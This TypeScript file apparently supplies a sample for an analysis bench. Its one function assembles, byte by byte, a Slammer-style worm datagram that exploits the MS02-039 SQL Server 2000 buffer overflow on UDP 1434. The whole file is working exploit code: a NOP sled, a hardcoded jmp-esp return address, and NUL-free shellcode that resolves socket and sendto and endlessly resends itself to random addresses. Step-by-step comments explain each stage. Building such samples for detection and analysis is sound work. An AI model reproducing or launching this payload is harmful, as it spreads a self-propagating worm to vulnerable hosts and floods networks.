/**
 * A Slammer-style worm datagram for the analyze bench, written here byte by byte: an SSRP 0x04
 * request to UDP 1434 whose instance name overruns SQL Server 2000's registry-key buffer (MS02-039),
 * carrying x86 code that does what a UDP worm does: find ws2_32 through the application's import
 * table, make a UDP socket, and send its own datagram to pseudo-random addresses on 1434, forever.
 * The code holds no NUL byte (the vulnerable copy stops at the first one), so the whole datagram is
 * the instance name.
 */

/** sqlsort.dll (SQL Server 2000 before SP3) loads at 0x42AE0000 without ASLR; its import slots: */
const LOAD_LIBRARY_A_SLOT = [0x18, 0x10, 0xae, 0x42]; // kernel32!LoadLibraryA at 0x42AE1018
const GET_PROC_ADDRESS_SLOT = [0x10, 0x10, 0xae, 0x42]; // kernel32!GetProcAddress at 0x42AE1010

const SLED_BYTES = 94;

/** offset of the first code byte after the return address */
const CODE_OFFSET = 1 + SLED_BYTES + 2 + 4;
/** where `pop esi` of the GetPC sequence leaves esi: the first byte after the call (code + 16) */
const GETPC_OFFSET = CODE_OFFSET + 16;

export function wormDatagram(): Buffer {
  const header = [
    0x04, // SSRP CLIENT_UNICAST_INSTANCE: the instance name follows, up to the first NUL
    ...new Array<number>(SLED_BYTES).fill(0x90), // the name: a NOP sled (any entry into it slides to the code)
    0xeb, 0x04, // jmp short +4: over the next four bytes when run from the sled
    0xdc, 0xc9, 0xb0, 0x42, // lands on the saved return address: 0x42B0C9DC, a `jmp esp` in sqlsort.dll
  ];
  const code = [
    // stack frame: 254 bytes lower, below the datagram, so no push overwrites the bytes we send
    0x83, 0xec, 0x7f, // sub esp, 0x7f
    0x83, 0xec, 0x7f, // sub esp, 0x7f
    // GetPC by jmp/call/pop: esi = our own address, whatever address we were loaded at
    0xeb, 0x03, // jmp short +3 (to the call)
    0x5e, // pop esi             ; esi = code + 16
    0xeb, 0x05, // jmp short +5 (past the call)
    0xe8, 0xf8, 0xff, 0xff, 0xff, // call -8 (back to the pop)
    0x8d, 0x6e, 0x100 - GETPC_OFFSET, // lea ebp, [esi - GETPC_OFFSET]   ; ebp = the datagram's first byte
    // LoadLibraryA("ws2_32.dll"): the string built on the stack, its NUL from a zeroed register
    0x31, 0xc0, // xor eax, eax
    0x66, 0xb8, 0x6c, 0x6c, // mov ax, 'll'
    0x50, // push eax           ; "ll\0\0"
    0x68, 0x33, 0x32, 0x2e, 0x64, // push '32.d'
    0x68, 0x77, 0x73, 0x32, 0x5f, // push 'ws2_'
    0x54, // push esp           ; lpLibFileName
    0xff, 0x15, ...LOAD_LIBRARY_A_SLOT, // call [LoadLibraryA]
    0x89, 0xc7, // mov edi, eax       ; edi = ws2_32 (kept: the calls are stdcall)
    // GetProcAddress(ws2_32, "socket")
    0x31, 0xc0, // xor eax, eax
    0x66, 0xb8, 0x65, 0x74, // mov ax, 'et'
    0x50, // push eax
    0x68, 0x73, 0x6f, 0x63, 0x6b, // push 'sock'
    0x54, // push esp           ; lpProcName
    0x57, // push edi           ; hModule
    0xff, 0x15, ...GET_PROC_ADDRESS_SLOT, // call [GetProcAddress]
    0x89, 0xc3, // mov ebx, eax       ; ebx = socket
    // GetProcAddress(ws2_32, "sendto")
    0x31, 0xc0, // xor eax, eax
    0x66, 0xb8, 0x74, 0x6f, // mov ax, 'to'
    0x50, // push eax
    0x68, 0x73, 0x65, 0x6e, 0x64, // push 'send'
    0x54, // push esp
    0x57, // push edi
    0xff, 0x15, ...GET_PROC_ADDRESS_SLOT, // call [GetProcAddress]
    0x89, 0xc6, // mov esi, eax       ; esi = sendto
    // socket(AF_INET, SOCK_DGRAM, IPPROTO_UDP)
    0x6a, 0x11, // push 17
    0x6a, 0x02, // push 2
    0x6a, 0x02, // push 2
    0xff, 0xd3, // call ebx
    0x89, 0xc3, // mov ebx, eax       ; ebx = the socket
    // sockaddr_in on the stack: AF_INET, port 1434, the address written each round
    0x31, 0xc9, // xor ecx, ecx
    0x51, // push ecx           ; sin_zero
    0x51, // push ecx           ; sin_zero
    0x51, // push ecx           ; sin_addr
    0xb8, 0x02, 0xff, 0x05, 0x9a, // mov eax, 0x9a05ff02
    0x30, 0xe4, // xor ah, ah         ; eax = 0x9a050002: family 2, port 0x059a big-endian
    0x50, // push eax
    0x89, 0xe7, // mov edi, esp       ; edi = &sockaddr_in
    0x0f, 0x31, // rdtsc              ; the seed
    0x89, 0x47, 0x04, // mov [edi+4], eax
    // loop: next address = address * 0x41C64E6D + 1 (a full-period LCG), then sendto it
    0x69, 0x47, 0x04, 0x6d, 0x4e, 0xc6, 0x41, // imul eax, [edi+4], 0x41c64e6d
    0x40, // inc eax
    0x89, 0x47, 0x04, // mov [edi+4], eax
    0x6a, 0x10, // push 16            ; tolen
    0x57, // push edi           ; to
    0x31, 0xc9, // xor ecx, ecx
    0x51, // push ecx           ; flags
    0xb1, 0x00, // mov cl, LENGTH     ; len (patched below: the whole datagram)
    0x51, // push ecx
    0x55, // push ebp           ; buf: the datagram itself
    0x53, // push ebx           ; s
    0xff, 0xd6, // call esi           ; sendto
    0xeb, 0xe6, // jmp short -26 (to the imul)
  ];
  const datagram = Buffer.from([...header, ...code]);
  if (datagram.length > 0xff) throw new Error(`the worm datagram outgrew its one-byte length: ${datagram.length}`);
  // the `mov cl` operand: the total length (no NUL: the datagram is shorter than 256 and not empty)
  const lengthOperand = header.length + code.lastIndexOf(0xb1) + 1;
  datagram[lengthOperand] = datagram.length;
  if (datagram.includes(0)) throw new Error('the worm datagram holds a NUL: the overflow would copy only part of it');
  return datagram;
}
